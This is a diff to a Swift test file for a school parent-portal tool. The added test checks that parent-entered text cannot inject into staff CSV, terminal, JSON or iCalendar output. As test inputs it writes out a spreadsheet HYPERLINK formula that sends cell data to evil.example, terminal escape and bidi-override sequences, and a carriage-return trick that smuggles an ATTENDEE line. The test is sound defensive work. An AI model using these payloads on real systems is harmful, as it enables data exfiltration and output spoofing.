@@ -4,10 +4,10 @@ import Foundation
 import PortalBuild
 import PortalCrypto
 import PortalReceiver
+import PortalTestSupport
 import XCTest
 #if canImport(FoundationNetworking)
 import FoundationNetworking
-import PortalTestSupport
 #endif
 
 final class InboxCommandTests: XCTestCase {
@@ -84,6 +84,69 @@ final class InboxCommandTests: XCTestCase {
         let other = try Workspace()
         _ = try portal(["token", "issue", "--group", "groep-5"], in: other.root)
         XCTAssertNotEqual(try portal(["inbox", "--receiver", base + "/api"], in: other.root).status, 0)
+    }
+
+    /// What a parent types is data, never instructions to the staff's tools (issue 12 point 7): a
+    /// spreadsheet formula stays text in `--csv`, terminal escapes do not reach the terminal, and a
+    /// bare CR cannot start a new iCalendar property.
+    func testWhatParentsTypedCannotDriveTheStaffTools() async throws {
+        let workspace = try Workspace()
+        try workspace.write("content/groups/groep-5/conferences/test-gesprekken.md", """
+            ---
+            title: Testgesprekken
+            slot_minutes: 15
+            evenings:
+              - date: 2031-02-04
+                start: "18:00"
+                end: "19:00"
+            booking:
+              opens: 2026-01-05 19:00
+              closes: 2031-02-01 12:00
+            ---
+            """)
+        let issued = try portal(["token", "issue", "--group", "groep-5", "--json"], in: workspace.root)
+        let token = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(issued.stdout.utf8)) as? [String: String])?["token"])
+        XCTAssertEqual(try portal(["generate"], in: workspace.root).status, 0)
+        let receiver = try ReceiverProcess(workspace: workspace)
+        defer { receiver.stop() }
+        try await receiver.waitUntilHealthy()
+        let opener = try SealedSiteOpener(output: workspace.url("output"), token: token)
+        let seed = Array(try XCTUnwrap(Data(base64Encoded: opener.keyslot.signingSeed)))
+        let inbox = Array(try XCTUnwrap(Data(base64Encoded: opener.site.inboxPublicKey)))
+        let parent = ReceiverClient(receiverURL: URL(string: receiver.base + "/api")!, signer: RequestSigner(tokenID: opener.tokenID, seed: seed))
+        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik hier\")"
+        let absence = try AbsencePayload(child: formula, reason: .ziek, note: "Rood\u{1B}[31m\u{1B}]0;titel\u{07}\u{202E}tekst")
+            .seal(tokenID: opener.tokenID, inboxPublicKey: inbox)
+        _ = try await parent.send("POST", "/v1/absences", body: try json([
+            "group": "groep-5", "from": "2026-12-01", "to": "2026-12-01", "sealed": absence.jsonObject,
+        ]))
+        let booking = try BookingPayload(child: "Sam\rATTENDEE:mailto:evil@example.com", note: "a;b,c\\d\ne")
+            .seal(tokenID: opener.tokenID, inboxPublicKey: inbox)
+        _ = try await parent.send("POST", "/v1/bookings", body: try json([
+            "schedule": "groups/groep-5/conferences/test-gesprekken", "slot": "2031-02-04T18:15", "sealed": booking.jsonObject,
+        ]))
+        let api = receiver.base + "/api"
+
+        let csv = try portal(["inbox", "--receiver", api, "--csv"], in: workspace.root)
+        XCTAssertEqual(csv.status, 0, csv.stderr)
+        XCTAssertTrue(csv.stdout.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klik hier\"\")\","), csv.stdout)
+        let table = try portal(["inbox", "--receiver", api], in: workspace.root)
+        XCTAssertEqual(table.status, 0, table.stderr)
+        XCTAssertFalse(table.stdout.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x202E },
+                       "no escape, bell or bidi override reaches the terminal")
+        XCTAssertTrue(table.stdout.contains("Rood"), table.stdout)
+        let json = try portal(["inbox", "--receiver", api, "--json"], in: workspace.root)
+        XCTAssertTrue(json.stdout.contains("\\u001b[31m"), "JSON keeps the exact text, escaped: \(json.stdout)")
+
+        let listing = try portal(["bookings", "--receiver", api], in: workspace.root)
+        XCTAssertFalse(listing.stdout.contains("\r"), "no bare CR in the table")
+        let calendar = try portal(["bookings", "--receiver", api, "--ics"], in: workspace.root)
+        let lines = calendar.stdout.components(separatedBy: "\r\n")
+        XCTAssertFalse(lines.contains { $0.contains("\r") || $0.contains("\n") }, "every line ends with CRLF and has no other break")
+        XCTAssertFalse(lines.contains { $0.hasPrefix("ATTENDEE") }, "the child's name cannot add a property")
+        XCTAssertTrue(lines.contains("SUMMARY:Gesprek Sam\\nATTENDEE:mailto:evil@example.com"), calendar.stdout)
+        XCTAssertTrue(lines.contains { $0.hasPrefix("DESCRIPTION:") && $0.contains("a\\;b\\,c\\\\d\\ne") }, calendar.stdout)
+        XCTAssertTrue(lines.allSatisfy { $0.utf8.count <= 75 }, "folded at 75 octets")
     }
 
     private func json(_ object: [String: Any]) throws -> [UInt8] {
